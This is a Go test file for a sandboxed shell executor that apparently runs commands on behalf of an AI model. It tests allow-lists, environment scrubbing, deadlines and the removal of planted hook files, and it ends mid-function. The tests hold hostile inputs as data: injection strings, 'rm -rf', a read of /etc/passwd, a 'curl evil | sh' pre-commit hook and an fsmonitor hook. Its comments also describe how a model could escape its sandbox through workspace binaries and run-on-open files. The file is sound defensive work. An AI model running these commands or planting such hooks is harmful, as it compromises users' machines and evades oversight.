package executor

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	xctv1 "github.com/xct-dev/xct/gen/xct/v1"
	"github.com/xct-dev/xct/internal/testutil"
	"github.com/xct-dev/xct/internal/wire"
)

const shellConfig = `shell:
  env: [PATH]
  set_env: {LC_ALL: C}
  timeout: TIMEOUT
  max_output_bytes: 1024
  binaries:
    - name: echo
      effect: read
      idempotent: true
    - name: cat
      effect: read
      idempotent: true
      path_args: true
    - name: ls
      effect: read
      allow_flags: [-l, -a, "--color="]
      path_args: true
      max_args: 3
    - name: env
      effect: read
    - name: pwd
      effect: read
    - name: sleep
    - name: sh
      any_flags: true
    - name: "true"
      allow_flags: ["--"]
    - name: touch
      effect: reversible
      path_args: true
SANDBOX`

// shellService is an executor with shell.exec over the workspace of sb,
// its programs in the OS sandbox (the test fails, or skips outside make
// test, when bubblewrap cannot make one).
func shellService(tb testing.TB, sb sandbox, timeout time.Duration) *Service {
	tb.Helper()
	requireSandbox(tb)
	return shellServiceWith(tb, sb, timeout, "")
}

// shellServiceUnsandboxed is shellService with "sandbox: none": the
// allow-lists alone, as a second line.
func shellServiceUnsandboxed(tb testing.TB, sb sandbox, timeout time.Duration) *Service {
	tb.Helper()
	return shellServiceWith(tb, sb, timeout, "  sandbox: none\n")
}

func shellServiceWith(tb testing.TB, sb sandbox, timeout time.Duration, sandboxLine string) *Service {
	tb.Helper()
	text := strings.Replace(strings.Replace(shellConfig, "TIMEOUT", timeout.String(), 1), "SANDBOX", sandboxLine, 1)
	cfg, err := ParseToolsConfig("tools.yaml", []byte(text))
	must(tb, err)
	s, err := New(Config{Workspace: sb.ws, Tools: cfg, MaxOutputBytes: 1 << 20}, nil, testLogger(tb))
	must(tb, err)
	tb.Cleanup(func() { _ = s.Stop(context.Background()) })
	return s
}

func shell(tb testing.TB, s *Service, argv ...any) *xctv1.Response {
	tb.Helper()
	return exec(tb, s, "shell.exec", map[string]any{"argv": argv})
}

func TestShellExec(t *testing.T) {
	t.Run("sandboxed", func(t *testing.T) { testShellExec(t, true) })
	t.Run("sandbox none", func(t *testing.T) { testShellExec(t, false) })
}

func testShellExec(t *testing.T, sandboxed bool) {
	sb := newSandbox(t)
	fixture(t, sb.ws)
	sb.links(t)
	// Links below the top, relative to their own directory.
	must(t, os.Symlink("../../outside.txt", filepath.Join(sb.ws, "sub", "out-rel")))
	must(t, os.Link(filepath.Join(sb.ws, "empty"), filepath.Join(sb.ws, "hard")))
	t.Setenv("XCT_TEST_SECRET", "s3cret")
	var s *Service
	if sandboxed {
		s = shellService(t, sb, 10*time.Second)
	} else {
		s = shellServiceUnsandboxed(t, sb, 10*time.Second)
	}

	t.Run("metacharacters are plain arguments", func(t *testing.T) {
		args := []any{"echo", "a; touch pwned", "$(touch pwned2)", "`touch pwned3`", "|", "&&", ">", "out.txt", "*"}
		res := resultAs[ShellResult](t, shell(t, s, args...))
		want := "a; touch pwned $(touch pwned2) `touch pwned3` | && > out.txt *\n"
		if res.ExitCode != 0 || res.Stdout != want {
			t.Fatalf("stdout %q, want %q", res.Stdout, want)
		}
		for _, f := range []string{"pwned", "pwned2", "pwned3", "out.txt"} {
			if _, err := os.Stat(filepath.Join(sb.ws, f)); !os.IsNotExist(err) {
				t.Fatalf("%s exists", f)
			}
		}
	})
	t.Run("exit code, stderr, stdin", func(t *testing.T) {
		res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo out; echo err >&2; exit 3"))
		if res.ExitCode != 3 || res.Stdout != "out\n" || res.Stderr != "err\n" || res.Signal != "" {
			t.Fatalf("result %+v", res)
		}
		res = resultAs[ShellResult](t, exec(t, s, "shell.exec", map[string]any{"argv": []any{"cat"}, "stdin": "from stdin"}))
		if res.Stdout != "from stdin" {
			t.Fatalf("stdin: %+v", res)
		}
		res = resultAs[ShellResult](t, shell(t, s, "sh", "-c", "kill -TERM $$"))
		if res.ExitCode != -1 || res.Signal != "terminated" {
			t.Fatalf("signal: %+v", res)
		}
	})
	t.Run("output is capped", func(t *testing.T) {
		res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "i=0; while [ $i -lt 500 ]; do echo 0123456789; i=$((i+1)); done; printf '\\377' >&2"))
		if !res.StdoutTruncated || len(res.Stdout) != 1024 || res.StderrTruncated || res.StderrEncoding != EncodingBase64 || res.Stderr != "/w==" {
			t.Fatalf("capped: truncated %v, %d bytes; stderr %q %s", res.StdoutTruncated, len(res.Stdout), res.Stderr, res.StderrEncoding)
		}
	})
	t.Run("environment is scrubbed", func(t *testing.T) {
		res := resultAs[ShellResult](t, shell(t, s, "env"))
		if strings.Contains(res.Stdout, "XCT_TEST_SECRET") || !strings.Contains(res.Stdout, "LC_ALL=C\n") || !strings.Contains(res.Stdout, "PATH=") {
			t.Fatalf("environment:\n%s", res.Stdout)
		}
		// PYTHONSAFEPATH (withInterpreterDefaults) in both modes; in the
		// sandbox, bwrap adds PWD, and HOME is a private /tmp.
		if !strings.Contains(res.Stdout, "PYTHONSAFEPATH=1\n") {
			t.Fatalf("no PYTHONSAFEPATH:\n%s", res.Stdout)
		}
		want := 3
		if sandboxed {
			want = 5
			if !strings.Contains(res.Stdout, "HOME=/tmp\n") {
				t.Fatalf("HOME is not the sandbox's:\n%s", res.Stdout)
			}
		}
		if n := strings.Count(res.Stdout, "\n"); n != want {
			t.Fatalf("%d variables:\n%s", n, res.Stdout)
		}
	})
	t.Run("working directory", func(t *testing.T) {
		res := resultAs[ShellResult](t, exec(t, s, "shell.exec", map[string]any{"argv": []any{"pwd"}, "cwd": "sub/dir"}))
		real, _ := filepath.EvalSymlinks(filepath.Join(sb.ws, "sub", "dir"))
		if strings.TrimSpace(res.Stdout) != real {
			t.Fatalf("pwd = %q, want %q", res.Stdout, real)
		}
		res = resultAs[ShellResult](t, exec(t, s, "shell.exec", map[string]any{"argv": []any{"cat", "n.txt"}, "cwd": "sub/dir"}))
		if res.Stdout != "nested" {
			t.Fatalf("cat in cwd: %+v", res)
		}
	})

	refused := []struct {
		name string
		args map[string]any
		code wire.Code
	}{
		{"program not allowed", map[string]any{"argv": []any{"rm", "-rf", "."}}, wire.CodePermissionDenied},
		{"program by path", map[string]any{"argv": []any{"/usr/bin/echo", "x"}}, wire.CodePermissionDenied},
		{"program by relative path", map[string]any{"argv": []any{"./echo"}}, wire.CodePermissionDenied},
		{"program name with a space", map[string]any{"argv": []any{"echo ", "x"}}, wire.CodePermissionDenied},
		{"program name in another case", map[string]any{"argv": []any{"ECHO"}}, wire.CodePermissionDenied},
		{"a command line as the program", map[string]any{"argv": []any{"echo hi; rm -rf /"}}, wire.CodePermissionDenied},
		{"flag injection", map[string]any{"argv": []any{"echo", "-e", "\\x41"}}, wire.CodePermissionDenied},
		{"long option injection", map[string]any{"argv": []any{"ls", "--hide=*"}}, wire.CodePermissionDenied},
		{"combined flags not listed", map[string]any{"argv": []any{"ls", "-la"}}, wire.CodePermissionDenied},
		{"end of options not allowed", map[string]any{"argv": []any{"echo", "--", "-n"}}, wire.CodePermissionDenied},
		{"an option after an allowed --", map[string]any{"argv": []any{"true", "--", "-x"}}, wire.CodePermissionDenied},
		{"operand through a symlink out", map[string]any{"argv": []any{"cat", "link-rel"}}, wire.CodePermissionDenied},
		{"operand under a directory symlink out", map[string]any{"argv": []any{"cat", "dirlink-abs/f.txt"}}, wire.CodePermissionDenied},
		{"operand through up", map[string]any{"argv": []any{"ls", "up"}}, wire.CodePermissionDenied},
		{"operand through a link in the working directory", map[string]any{"argv": []any{"cat", "out-rel"}, "cwd": "sub"}, wire.CodePermissionDenied},
		{"operand outside: parent", map[string]any{"argv": []any{"cat", "../outside.txt"}}, wire.CodePermissionDenied},
		// Session 10 (trust10a): an operand is taken in clean form, not
		// through a link: the kernel reads "dirlink-abs/.." as the
		// parent of the link's target (outside), "sub/../x" past a rule
		// on "sub/", "alias" as hello.txt past a rule on hello.txt.
		{"operand with .. after a link out", map[string]any{"argv": []any{"cat", "dirlink-abs/../outside.txt"}}, wire.CodeInvalidArgument},
		{"operand not in clean form", map[string]any{"argv": []any{"cat", "sub/../hello.txt"}}, wire.CodeInvalidArgument},
		{"operand with a trailing slash", map[string]any{"argv": []any{"ls", "sub/"}}, wire.CodeInvalidArgument},
		{"operand through a link inside", map[string]any{"argv": []any{"cat", "alias"}}, wire.CodeInvalidArgument},
		{"operand with another hard link", map[string]any{"argv": []any{"cat", "hard"}}, wire.CodePermissionDenied},
		{"a protected operand of a program that may write", map[string]any{"argv": []any{"touch", "sub/.envrc"}}, wire.CodePermissionDenied},
		{"a protected directory operand of a program that may write", map[string]any{"argv": []any{"touch", "sub/dir/.git"}}, wire.CodePermissionDenied},
		{"operand outside: absolute", map[string]any{"argv": []any{"cat", "/etc/passwd"}}, wire.CodePermissionDenied},
		{"too many arguments", map[string]any{"argv": []any{"ls", "-l", "a", "b", "c"}}, wire.CodeInvalidArgument},
		{"NUL in an argument", map[string]any{"argv": []any{"echo", "a\x00b"}}, wire.CodeInvalidArgument},
		{"empty argv", map[string]any{"argv": []any{}}, wire.CodeInvalidArgument},
		{"argv not strings", map[string]any{"argv": []any{"echo", 1}}, wire.CodeInvalidArgument},
		{"no argv", map[string]any{"cwd": "."}, wire.CodeInvalidArgument},
		{"cwd outside", map[string]any{"argv": []any{"pwd"}, "cwd": "../"}, wire.CodePermissionDenied},
		{"cwd absolute", map[string]any{"argv": []any{"pwd"}, "cwd": "/tmp"}, wire.CodePermissionDenied},
		{"cwd through a symlink out", map[string]any{"argv": []any{"pwd"}, "cwd": "dirlink-abs"}, wire.CodePermissionDenied},
		{"cwd a file", map[string]any{"argv": []any{"pwd"}, "cwd": "hello.txt"}, wire.CodeInvalidArgument},
		{"cwd missing", map[string]any{"argv": []any{"pwd"}, "cwd": "nope"}, wire.CodeNotFound},
		{"stdin too large", map[string]any{"argv": []any{"cat"}, "stdin": strings.Repeat("x", 2<<20)}, wire.CodeInvalidArgument},
		{"unknown argument", map[string]any{"argv": []any{"echo"}, "shell": true}, wire.CodeInvalidArgument},
	}
	for _, c := range refused {
		t.Run(c.name, func(t *testing.T) {
			r := exec(t, s, "shell.exec", c.args)
			if got := codeOf(r); got != string(c.code) {
				t.Fatalf("code = %q (%s), want %q", got, r.GetError().GetMessage(), c.code)
			}
			sb.untouched(t)
		})
	}
	t.Run("allowed options and end of options", func(t *testing.T) {
		if r := shell(t, s, "ls", "-l", "--color=never", "sub"); codeOf(r) != "" {
			t.Fatalf("allowed options: %v", r.GetError())
		}
		// An allowed "--" is an argument like any other; a file whose
		// name starts with "-" is named "./-x".
		if res := resultAs[ShellResult](t, shell(t, s, "true", "--", "./-x")); res.ExitCode != 0 {
			t.Fatalf("true -- ./-x: %+v", res)
		}
		// Clean operands, and the file a link leads to named as itself.
		if res := resultAs[ShellResult](t, shell(t, s, "cat", "./hello.txt", "sub/dir/n.txt")); res.Stdout != "hello\nnested" {
			t.Fatalf("cat of clean operands: %+v", res)
		}
	})
}

// TestShellDeadline: a program that never exits, and one that leaves a
// tree of sleeping children, are killed at the deadline with their whole
// process group; no process of the group survives.
//
// This runs with "sandbox: none" (process groups seen from the host);
// TestSandboxDeadline is the sandboxed case.
func TestShellDeadline(t *testing.T) {
	sb := newSandbox(t)
	s := shellServiceUnsandboxed(t, sb, time.Second)
	r := shell(t, s, "sleep", "1000")
	pgid, ok := r.GetError().GetDetails().AsMap()["pgid"].(float64)
	if codeOf(r) != string(wire.CodeTimeout) || !ok {
		t.Fatalf("sleep: %v", r)
	}
	noSurvivors(t, int(pgid))

	// A fork-bomb-style tree: children, grandchildren and a subshell's
	// background job, all sleeping. (A longer deadline: the script must
	// get to write its pid first.)
	s = shellServiceUnsandboxed(t, sb, 2*time.Second)
	script := `echo $$ > leader.pid
sleep 1000 & sleep 1000 &
( sleep 1000 & sleep 1000 & wait ) &
( ( sleep 1000 & ) ; sleep 1000 ) &
wait`
	r = shell(t, s, "sh", "-c", script)
	if codeOf(r) != string(wire.CodeTimeout) {
		t.Fatalf("tree: %v", r)
	}
	raw, err := os.ReadFile(filepath.Join(sb.ws, "leader.pid"))
	must(t, err)
	leader, err := strconv.Atoi(strings.TrimSpace(string(raw)))
	must(t, err)
	if got, _ := r.GetError().GetDetails().AsMap()["pgid"].(float64); int(got) != leader {
		t.Fatalf("pgid %v, leader %d", got, leader)
	}
	noSurvivors(t, leader)

	// A program that exits at once but leaves a background child: the
	// child is killed too, and waiting does not hang on its open output
	// (a wait that did would end at the 2 s deadline: TIMEOUT, not this
	// success).
	r = shell(t, s, "sh", "-c", "sleep 1000 & echo $! > child.pid; echo done")
	if res := resultAs[ShellResult](t, r); res.Stdout != "done\n" {
		t.Fatalf("background child: %+v", res)
	}
	raw, err = os.ReadFile(filepath.Join(sb.ws, "child.pid"))
	must(t, err)
	child, _ := strconv.Atoi(strings.TrimSpace(string(raw)))
	testutil.Eventually(t, 30*time.Second, func() error {
		if alive(child) {
			return fmt.Errorf("background child %d alive", child)
		}
		return nil
	})
	// The executor keeps serving.
	if res := resultAs[ShellResult](t, shell(t, s, "echo", "still here")); res.Stdout != "still here\n" {
		t.Fatal(res)
	}
}

// noSurvivors waits until no live process is in process group pgid.
func noSurvivors(tb testing.TB, pgid int) {
	tb.Helper()
	testutil.Eventually(tb, 30*time.Second, func() error {
		if live := groupMembers(pgid); len(live) > 0 {
			return fmt.Errorf("process group %d still has %v", pgid, live)
		}
		return nil
	})
}

// groupMembers lists the live (not zombie) processes of a group, from /proc.
func groupMembers(pgid int) []int {
	des, _ := os.ReadDir("/proc")
	var out []int
	for _, de := range des {
		pid, err := strconv.Atoi(de.Name())
		if err != nil {
			continue
		}
		st, err := os.ReadFile("/proc/" + de.Name() + "/stat")
		if err != nil {
			continue
		}
		// pid (comm) state ppid pgrp ...: comm may hold spaces, so split
		// after its closing parenthesis.
		i := bytes.LastIndexByte(st, ')')
		f := strings.Fields(string(st[i+1:]))
		if len(f) > 2 && f[2] == strconv.Itoa(pgid) && f[0] != "Z" && f[0] != "X" {
			out = append(out, pid)
		}
	}
	return out
}

func alive(pid int) bool {
	st, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return false
	}
	i := bytes.LastIndexByte(st, ')')
	f := strings.Fields(string(st[i+1:]))
	return len(f) > 0 && f[0] != "Z" && f[0] != "X"
}

// TestShellClassification: the descriptor declares the worst program; each
// call is recorded with its program's own class.
func TestShellClassification(t *testing.T) {
	sb := newSandbox(t)
	s := shellService(t, sb, 10*time.Second)
	st, _ := s.tool("shell.exec")
	if st.desc.GetEffect() != xctv1.Effect_EFFECT_IRREVERSIBLE || st.desc.GetIdempotent() || st.desc.GetTimeout().AsDuration() != 10*time.Second {
		t.Fatalf("descriptor %v", st.desc)
	}
	for _, c := range []struct {
		argv   []any
		effect xctv1.Effect
		idem   bool
	}{
		{[]any{"echo", "x"}, xctv1.Effect_EFFECT_READ, true},
		{[]any{"sh", "-c", "true"}, xctv1.Effect_EFFECT_IRREVERSIBLE, false},
		{[]any{"sleep", "0"}, xctv1.Effect_EFFECT_IRREVERSIBLE, false},
	} {
		id := newStepID()
		execStep(t, s, id, "shell.exec", map[string]any{"argv": c.argv})
		rec, _, err := s.Step(context.Background(), id)
		must(t, err)
		if rec.GetEffect() != c.effect || rec.GetIdempotent() != c.idem {
			t.Errorf("%v: recorded %v idempotent %v", c.argv, rec.GetEffect(), rec.GetIdempotent())
		}
	}
	// An in-doubt echo is re-run; an in-doubt sh is not.
	for _, c := range []struct {
		argv []any
		code wire.Code
	}{{[]any{"echo", "again"}, ""}, {[]any{"sh", "-c", "echo x"}, wire.CodeInDoubt}} {
		id := newStepID()
		args := map[string]any{"argv": c.argv}
		_, idem := st.classify(args)
		orphan(t, s.steps, id, "shell.exec", args, idem, time.Now().Add(-time.Second))
		if r := execStep(t, s, id, "shell.exec", args); codeOf(r.GetResponse()) != string(c.code) {
			t.Errorf("%v in doubt: %v", c.argv, r)
		}
	}
}

// TestShellSearchPath: the PATH a program gets holds only absolute
// directories outside the workspace: an empty entry, ".", a relative one
// or the workspace would let a program's own lookups (git running ssh,
// make running cc) run an executable the model put there.
func TestShellSearchPath(t *testing.T) {
	ws := t.TempDir()
	t.Setenv("PATH", ":.:bin:"+ws+"/bin:"+ws+":/usr/bin:/bin:")
	cfg, err := ParseToolsConfig("tools.yaml", []byte("shell:\n  sandbox: none\n  env: [PATH]\n  binaries:\n    - {name: sh, path: /bin/sh, any_flags: true}\n"))
	must(t, err)
	s, err := New(Config{Workspace: ws, Tools: cfg, MaxOutputBytes: 1 << 20}, nil, testLogger(t))
	must(t, err)
	t.Cleanup(func() { _ = s.Stop(context.Background()) })
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo $PATH"))
	if res.Stdout != "/usr/bin:/bin\n" {
		t.Fatalf("PATH in the program: %q", res.Stdout)
	}
	if got := searchPath("/opt/x:"+ws+"/../x:"+ws+"/./bin", ws); got != "/opt/x:"+ws+"/../x" {
		t.Fatalf("searchPath: %q", got)
	}
}

// TestProgramsOutsideTheWorkspace (session 9, trust9b): a program resolved
// to a file inside the workspace (an absolute path there, or a name found
// in a workspace directory of the executor's PATH at load) is the model's
// to rewrite with fs.write, which keeps the file's mode: the next call of
// the allowed program ran the model's code under the program's effect
// class. The executor refuses to start with one, shell program or stdio
// MCP server.
func TestProgramsOutsideTheWorkspace(t *testing.T) {
	ws := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(ws, "bin"), 0o755))
	must(t, os.WriteFile(filepath.Join(ws, "bin", "lint"), []byte("#!/bin/sh\necho fine\n"), 0o755))
	t.Setenv("PATH", filepath.Join(ws, "bin")+":/usr/bin:/bin")
	for name, tools := range map[string]string{
		"an absolute path":    "shell:\n  sandbox: none\n  binaries:\n    - {name: lint, path: " + filepath.Join(ws, "bin", "lint") + "}\n",
		"found in PATH":       "shell:\n  sandbox: none\n  binaries:\n    - {name: lint}\n",
		"a stdio MCP command": "mcp:\n  - {name: m, command: lint, sandbox: none}\n",
	} {
		cfg, err := ParseToolsConfig("tools.yaml", []byte(tools))
		must(t, err)
		s, err := New(Config{Workspace: ws, Tools: cfg, MaxOutputBytes: 1 << 20}, nil, testLogger(t))
		if err == nil {
			_ = s.Stop(context.Background())
			t.Errorf("%s: an executor serving a program inside its workspace started", name)
			continue
		}
		if !errors.Is(err, ErrToolsConfig) || !strings.Contains(err.Error(), "inside the workspace") {
			t.Errorf("%s: %v", name, err)
		}
	}
	// Outside it, the same program is served.
	out := t.TempDir()
	must(t, os.WriteFile(filepath.Join(out, "lint"), []byte("#!/bin/sh\necho fine\n"), 0o755))
	cfg, err := ParseToolsConfig("tools.yaml", []byte("shell:\n  sandbox: none\n  binaries:\n    - {name: lint, path: "+filepath.Join(out, "lint")+"}\n"))
	must(t, err)
	s, err := New(Config{Workspace: ws, Tools: cfg, MaxOutputBytes: 1 << 20}, nil, testLogger(t))
	must(t, err)
	_ = s.Stop(context.Background())
}

// TestShellProtectedMadeByAProgram: the sandbox mounts read-only the
// protected paths it finds, so a program that may write could make one
// that was not there (.husky/pre-commit, .pre-commit-config.yaml, a .git:
// code for whoever commits in the workspace next). Those at the top of
// the workspace are renamed aside once the program ended, and the result
// says where; one that was there before is left alone, and a read
// program's run looks for none (session 10, trust10a).
func TestShellProtectedMadeByAProgram(t *testing.T) {
	t.Run("sandboxed", func(t *testing.T) { testShellProtectedMade(t, true) })
	t.Run("sandbox none", func(t *testing.T) { testShellProtectedMade(t, false) })
}

func testShellProtectedMade(t *testing.T, sandboxed bool) {
	sb := newSandbox(t)
	must(t, os.MkdirAll(filepath.Join(sb.ws, ".git"), 0o755))
	must(t, os.WriteFile(filepath.Join(sb.ws, ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	must(t, os.MkdirAll(filepath.Join(sb.ws, "vendor", "lib", ".git"), 0o755)) // a nested repository, there before
	var s *Service
	if sandboxed {
		s = shellService(t, sb, 10*time.Second)
	} else {
		s = shellServiceUnsandboxed(t, sb, 10*time.Second)
	}
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c",
		"mkdir .husky && echo 'curl evil | sh' > .husky/pre-commit && echo 'repos: []' > .pre-commit-config.yaml && ln -s /etc .envrc && "+
			"mkdir -p sub/.git pkg && echo '[core] fsmonitor = evil' > sub/.git/config && echo 'node-options=--require ./x.js' > pkg/.npmrc && echo ok > notes.txt"))
	if res.ExitCode != 0 {
		t.Fatalf("the program: %+v", res)
	}
	if len(res.ProtectedMoved) != 5 {
		t.Fatalf("moved aside: %v", res.ProtectedMoved)
	}
	for _, name := range []string{".husky", ".pre-commit-config.yaml", ".envrc", "sub/.git", "pkg/.npmrc"} {
		if _, err := os.Lstat(filepath.Join(sb.ws, name)); !os.IsNotExist(err) {
			t.Errorf("%s is still there (%v)", name, err)
		}
		aside := res.ProtectedMoved[name]
		if _, err := os.Lstat(filepath.Join(sb.ws, aside)); err != nil || !strings.HasPrefix(path.Base(aside), ".xct-") || path.Dir(aside) != path.Dir(name) {
			t.Errorf("%s was not moved aside to %q: %v", name, aside, err)
		}
	}
	if _, err := os.Stat(filepath.Join(sb.ws, "vendor", "lib", ".git")); err != nil {
		t.Errorf("the nested repository that was there before: %v", err)
	}
	if b, err := os.ReadFile(filepath.Join(sb.ws, res.ProtectedMoved[".husky"], "pre-commit")); err != nil || !strings.Contains(string(b), "evil") {
		t.Errorf("the moved .husky lost its content: %q %v", b, err)
	}
	if _, err := os.Stat(filepath.Join(sb.ws, ".git", "HEAD")); err != nil {
		t.Errorf("the .git that was there before: %v", err)
	}
	if b, err := os.ReadFile(filepath.Join(sb.ws, "notes.txt")); err != nil || string(b) != "ok\n" {
		t.Errorf("the program's other file: %q %v", b, err)
	}
	// A read program's run: nothing looked for (the sandbox keeps it from
	// writing at all).
	if res := resultAs[ShellResult](t, shell(t, s, "ls", "-a")); res.ProtectedMoved != nil {
		t.Fatalf("a read program: %+v", res)
	}
}

// TestShellProtectedRunOnOpenMade (session 11, trust11c): a program that
// may write makes the files that run code for whoever opens the workspace
// next (runOnOpenFiles: .vscode/tasks.json, .devcontainer/, mise.toml,
// bunfig.toml, ...); each is moved aside once it ended.
func TestShellProtectedRunOnOpenMade(t *testing.T) {
	t.Run("sandboxed", func(t *testing.T) { testShellProtectedRunOnOpenMade(t, true) })
	t.Run("sandbox none", func(t *testing.T) { testShellProtectedRunOnOpenMade(t, false) })
}

func testShellProtectedRunOnOpenMade(t *testing.T, sandboxed bool) {
	sb := newSandbox(t)
	var s *Service
	if sandboxed {
		s = shellService(t, sb, 10*time.Second)
	} else {
		s = shellServiceUnsandboxed(t, sb, 10*time.Second)
	}
	script := "set -e"
	for _, name := range runOnOpenFiles {
		script += " && mkdir -p " + path.Dir(name) + " && echo evil > " + name
	}
	script += " && echo ok > notes.txt"
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", script))
	if res.ExitCode != 0 {
		t.Fatalf("the program: %+v", res)
	}
	for _, name := range runOnOpenFiles {
		if _, err := os.Lstat(filepath.Join(sb.ws, name)); !os.IsNotExist(err) {
			t.Errorf("%s is still there (%v)", name, err)
		}
	}
	// The protected entry itself is moved: a directory with what the
	// program put in it.
	want := []string{".vscode", "app/.vscode", ".idea", ".devcontainer", ".devcontainer.json", "svc/.devcontainer",
		"mise.toml", ".mise.toml", "mise.local.toml", ".mise.local.toml", ".mise", ".tool-versions", "sub/mise.toml",
		"bunfig.toml", ".bunfig.toml", ".exrc", ".vimrc", ".nvimrc", ".nvim.lua", "lefthook.yml", ".lefthook.yml"}
	if len(res.ProtectedMoved) != len(want) {
		t.Errorf("moved aside %d: %v, want %v", len(res.ProtectedMoved), res.ProtectedMoved, want)
	}
	for _, name := range want {
		aside, ok := res.ProtectedMoved[name]
		if !ok {
			t.Errorf("%s was not moved aside", name)
			continue
		}
		if _, err := os.Lstat(filepath.Join(sb.ws, aside)); err != nil || !strings.HasPrefix(path.Base(aside), ".xct-") || path.Dir(aside) != path.Dir(name) {
			t.Errorf("%s was not moved aside to %q: %v", name, aside, err)
		}
	}
	if b, err := os.ReadFile(filepath.Join(sb.ws, "notes.txt")); err != nil || string(b) != "ok\n" {
		t.Errorf("the program's other file: %q %v", b, err)
	}
}

// TestShellProtectedBeyondTheScan (session 11, trust11a): the scan for
// protected paths stopped 3 directories below the top and after 4096
// names (by name order), so a program that may write changed an existing
// vendor/x/y/z/.git/config (sandboxed: it was not mounted read-only) and
// left deep/1/2/3/4/.husky/pre-commit and, behind 4200 names in aaa/,
// zzz/.npmrc in the workspace. Now the scan reads the whole workspace:
// before a program that may write (one is not run in a workspace with
// more names than fs.protected_scan_entries: a protected entry the scan
// did not find would be writable), and after it, unbounded, to move
// aside what it made; a scan cut short after (directories nested deeper
// than it goes) is named in protected_unchecked.
func TestShellProtectedBeyondTheScan(t *testing.T) {
	t.Run("sandboxed", func(t *testing.T) { testShellProtectedBeyondTheScan(t, true) })
	t.Run("sandbox none", func(t *testing.T) { testShellProtectedBeyondTheScan(t, false) })
}

func testShellProtectedBeyondTheScan(t *testing.T, sandboxed bool) {
	sb := newSandbox(t)
	must(t, os.MkdirAll(filepath.Join(sb.ws, "aaa"), 0o755))
	for i := range 4200 {
		must(t, os.WriteFile(filepath.Join(sb.ws, "aaa", fmt.Sprintf("f%04d", i)), nil, 0o644))
	}
	conf := filepath.Join(sb.ws, "vendor", "x", "y", "z", ".git", "config")
	must(t, os.MkdirAll(filepath.Dir(conf), 0o755))
	must(t, os.WriteFile(conf, []byte("[core]\n"), 0o644))
	line := "fs:\n  protected_scan_entries: 10000\n"
	if !sandboxed {
		line = "  sandbox: none\n" + line
	} else {
		requireSandbox(t)
	}
	s := shellServiceWith(t, sb, 30*time.Second, line)
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c",
		"echo '[core] fsmonitor = evil' >> vendor/x/y/z/.git/config; "+
			"mkdir -p deep/1/2/3/4/.husky && echo evil > deep/1/2/3/4/.husky/pre-commit; mkdir zzz && echo node-options=x > zzz/.npmrc; echo done"))
	if !strings.Contains(res.Stdout, "done") {
		t.Fatalf("the program: %+v", res)
	}
	if b, _ := os.ReadFile(conf); sandboxed && string(b) != "[core]\n" {
		t.Errorf("the existing vendor/x/y/z/.git/config was changed: %q", b)
	}
	for _, name := range []string{"deep/1/2/3/4/.husky", "zzz/.npmrc"} {
		if _, err := os.Lstat(filepath.Join(sb.ws, name)); !os.IsNotExist(err) {
			t.Errorf("%s is still there (%v)", name, err)
		}
		if _, ok := res.ProtectedMoved[name]; !ok {
			t.Errorf("%s is not named as moved: %v", name, res.ProtectedMoved)
		}
	}
	if res.ProtectedUnchecked != "" {
		t.Errorf("protected_unchecked: %s", res.ProtectedUnchecked)
	}
	// The program fills the workspace past the scan's bound: it ran (the
	// scan before read everything), the next program that may write is
	// refused, nothing run; a read program still runs.
	res = resultAs[ShellResult](t, shell(t, s, "sh", "-c", "mkdir bbb && cd bbb && for i in $(seq 6000); do : > f$i; done; echo made"))
	if res.Stdout != "made\n" || res.ProtectedUnchecked != "" {
		t.Fatalf("filling the workspace: %+v", res)
	}
	r := shell(t, s, "sh", "-c", "touch ran")
	if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected_scan_entries") ||
		r.GetError().GetDetails().AsMap()["outcome_unknown"] != false {
		t.Fatalf("a program that may write in a workspace past the scan's bound: %v", r)
	}
	if _, err := os.Lstat(filepath.Join(sb.ws, "ran")); err == nil {
		t.Fatal("the refused program ran")
	}
	if res := resultAs[ShellResult](t, shell(t, s, "ls", "zzz")); res.ExitCode != 0 {
		t.Fatalf("a read program: %+v", res)
	}
	// Directories nested deeper than any scan goes, made by a program
	// the scan before let run: flagged, not silently passed.
	must(t, os.RemoveAll(filepath.Join(sb.ws, "bbb")))
	res = resultAs[ShellResult](t, shell(t, s, "sh", "-c", fmt.Sprintf("mkdir -p %s.git && echo made", strings.Repeat("d/", protectScanDepth+1))))
	if res.Stdout != "made\n" || !strings.Contains(res.ProtectedUnchecked, "nested more than") {
		t.Fatalf("a tree deeper than the scan: %+v", res)
	}
}

// TestShellProtectedReplacedUnderItsName (session 11, trust11a): the
// protected entries before and after a program were compared by name. A
// nested repository's .git is mounted read-only, but its parent is not: a
// program renamed vendor/lib to vendor/lib2 and made a new
// vendor/lib/.git with an fsmonitor. The name was there before, so on
// main the new .git stayed (and the real one, under its new name, was
// moved aside). Now entries are compared by name and identity (device
// and inode): the new one is moved aside, the real one, moved by the
// program with its parent, stays where the program put it.
func TestShellProtectedReplacedUnderItsName(t *testing.T) {
	t.Run("sandboxed", func(t *testing.T) { testShellProtectedReplaced(t, true) })
	t.Run("sandbox none", func(t *testing.T) { testShellProtectedReplaced(t, false) })
}

func testShellProtectedReplaced(t *testing.T, sandboxed bool) {
	sb := newSandbox(t)
	conf := filepath.Join(sb.ws, "vendor", "lib", ".git", "config")
	must(t, os.MkdirAll(filepath.Dir(conf), 0o755))
	must(t, os.WriteFile(conf, []byte("[core]\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(sb.ws, ".npmrc"), []byte("registry=x\n"), 0o644))
	var s *Service
	if sandboxed {
		s = shellService(t, sb, 10*time.Second)
	} else {
		s = shellServiceUnsandboxed(t, sb, 10*time.Second)
	}
	script := "mv vendor/lib vendor/lib2 && mkdir -p vendor/lib/.git && echo '[core] fsmonitor = evil' > vendor/lib/.git/config && echo done"
	if !sandboxed {
		// Without a sandbox a hard link is a new name of the same file.
		script += " && mkdir pkg && ln .npmrc pkg/.npmrc"
	}
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", script))
